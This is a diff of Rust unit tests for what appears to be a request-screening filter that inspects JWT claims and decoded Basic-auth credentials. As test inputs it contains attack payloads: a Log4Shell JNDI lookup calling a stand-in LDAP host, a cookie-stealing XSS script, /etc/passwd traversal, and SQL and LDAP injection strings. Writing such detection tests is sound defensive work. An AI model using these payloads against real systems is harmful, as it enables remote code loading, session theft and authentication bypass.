@@ -178,9 +178,20 @@ fn head_fields_cover_path_query_cookies_and_headers() {
     locations.dedup();
     assert_eq!(
         locations,
-        ["header:x-custom", "path", "query:id"],
+        [
+            "credential:authorization",
+            "header:x-custom",
+            "path",
+            "query:id"
+        ],
         "{findings:?}"
     );
+    // The decoded credential holds a password: its hit keeps no fragment.
+    let basic = findings
+        .hits
+        .iter()
+        .find(|h| h.location == "credential:authorization");
+    assert_eq!(basic.map(|h| h.fragment.as_str()), Some("(credential)"));
 }
 
 /// A bearer JWT's header is read before any signature check (`kid` into a path or SQL,
@@ -226,8 +237,46 @@ fn bearer_jwts_are_screened_without_their_signature() {
         let token = format!("Bearer {}", jwt(header, "c2lnbmF0dXJl"));
         let (fields, blocked) = screened(&token);
         assert!(blocked, "{header}");
-        assert_eq!(fields.len(), 1);
+        assert_eq!(fields.len(), 2);
         assert!(fields[0].ends_with('.') && !fields[0].contains("c2lnbmF0dXJl"));
+        assert_eq!(fields[1], claims);
+    }
+    // Claims a backend trusts once the signature checks out carry injections too.
+    let header = r#"{"alg":"HS256","typ":"JWT"}"#;
+    for claim in [
+        r#"{"sub":"42","username":"${jndi:ldap://x.example/a}"}"#,
+        r#"{"sub":"42","name":"<script>alert(document.cookie)</script>"}"#,
+        r#"{"sub":"42","tenant":"../../../../etc/passwd"}"#,
+    ] {
+        let token = format!("Bearer {}.{}.c2ln", b64(header), b64(claim));
+        assert!(screened(&token).1, "{claim}");
+    }
+    // Identity providers write their own URLs and session ids into claims.
+    for claim in [
+        r#"{"iss":"https://sso.acme.example/realms/c","allowed-origins":["https://app.acme.example","http://localhost:4200"]}"#,
+        r#"{"aud":["https://kubernetes.default.svc.cluster.local"],"sub":"system:serviceaccount:payments:api"}"#,
+        r#"{"sub":"user_2fQ8b1","sid":"sess_BGGa2Fe6BrPXrXHvZbZWTTGqIsN"}"#,
+    ] {
+        let token = format!("Bearer {}.{}.c2ln", b64(header), b64(claim));
+        assert!(!screened(&token).1, "{claim}");
+    }
+    // A basic credential is decoded and screened as user:password.
+    let basic = base64::engine::general_purpose::STANDARD;
+    for credential in [
+        "admin' OR '1'='1:x",
+        "admin:x' OR 'x'='x",
+        "*)(uid=*))(|(uid=*:x",
+    ] {
+        let value = format!("Basic {}", basic.encode(credential));
+        assert!(screened(&value).1, "{credential}");
+    }
+    for credential in [
+        "alice:S3cr3t!@#2024",
+        "o'brien:correct horse battery staple",
+        "svc-backup:Tr0ub4dor&3",
+    ] {
+        let value = format!("Basic {}", basic.encode(credential));
+        assert!(!screened(&value).1, "{credential}");
     }
     let legit = [
         format!(
@@ -245,11 +294,10 @@ fn bearer_jwts_are_screened_without_their_signature() {
     for token in &legit {
         assert!(!screened(token).1, "{token}");
     }
-    // Not screened at all: credentials that are tokens (base64 of `' or '1'='1` too), an
-    // encrypted JWE, other schemes' parameters.
+    // Not screened at all: bearer credentials that are opaque tokens, an encrypted JWE,
+    // other schemes' parameters.
     let kid = b64(r#"{"alg":"dir","enc":"A256GCM","kid":"../../etc/passwd"}"#);
     for other in [
-        "Basic JyBvciAnMSc9JzE=".to_owned(),
         "Bearer mF_9.B5f-4.1JqM".to_owned(),
         "Bearer ya29.a0AfH6SMBx~+/abc==".to_owned(),
         format!("Bearer {kid}.x.y.z.w"),
